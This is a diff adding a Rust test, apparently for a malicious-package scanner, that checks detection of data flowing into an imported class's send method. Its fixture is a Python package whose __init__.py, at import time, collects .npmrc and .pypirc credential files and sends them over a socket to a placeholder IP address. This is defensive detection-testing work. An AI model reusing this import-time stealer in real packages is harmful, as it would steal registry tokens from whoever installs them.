@@ -653,3 +653,31 @@ fn a_helper_returning_what_one_caller_passed_is_no_source_for_the_others() {
     let flows = flows_of(&report, "pkg/fetch.py");
     assert!(!flows.contains("passed to relative()"), "{flows}");
 }
+
+#[test]
+fn data_handed_to_a_method_of_an_imported_class_flows_into_its_send() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("pkg-0.1");
+    write_package(
+        &root,
+        &[
+            (
+                "pkg/_walk.py",
+                "import os\n_NAMES = ('.npmrc', '.pypirc')\n\ndef iter_configs(root='~'):\n    for here, dirs, files in os.walk(os.path.expanduser(root)):\n        for f in files:\n            if f in _NAMES:\n                with open(os.path.join(here, f), 'rb') as fh:\n                    yield f, fh.read()\n",
+            ),
+            (
+                "pkg/_ship.py",
+                "import socket\n\nclass Channel:\n    def __enter__(self):\n        self.sock = socket.create_connection(('203.0.113.27', 8443))\n        return self\n\n    def put(self, name, blob):\n        self.sock.sendall(blob)\n\n    def __exit__(self, *exc):\n        self.sock.close()\n",
+            ),
+            (
+                "pkg/__init__.py",
+                "from ._ship import Channel\nfrom ._walk import iter_configs\ntry:\n    with Channel() as ch:\n        for name, blob in iter_configs():\n            ch.put(name, blob)\nexcept Exception:\n    pass\n",
+            ),
+        ],
+    );
+    let report = scan(&root);
+    assert_eq!(report["verdict"], "malicious", "{report}");
+    let flows = flows_of(&report, "pkg/_ship.py");
+    assert!(flows.contains("passed to put()"), "{flows}");
+    assert!(flows.contains("at import time"), "{flows}");
+}
